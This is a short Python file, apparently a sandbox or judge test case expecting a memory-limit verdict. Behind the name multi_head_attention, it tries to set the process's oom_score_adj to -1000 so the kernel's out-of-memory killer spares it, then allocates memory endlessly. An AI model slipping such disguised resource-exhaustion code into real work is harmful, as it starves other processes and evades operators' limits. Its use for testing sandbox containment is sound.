# verdict: MLE
"""Tries to make the kernel prefer another victim before it runs out of memory.

The score of this process is the highest there is, and out of its reach.
"""

import os


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    for process in ("self", "thread-self", str(os.getpid())):
        for name, score in (("oom_score_adj", "-1000"), ("oom_score_adj", "0"), ("oom_adj", "-17")):
            try:
                with open(f"/proc/{process}/{name}", "w") as file:
                    file.write(score)
            except OSError:
                continue
            return "reached"
    kept = []
    while True:
        kept.append(b"x" * (1 << 20))
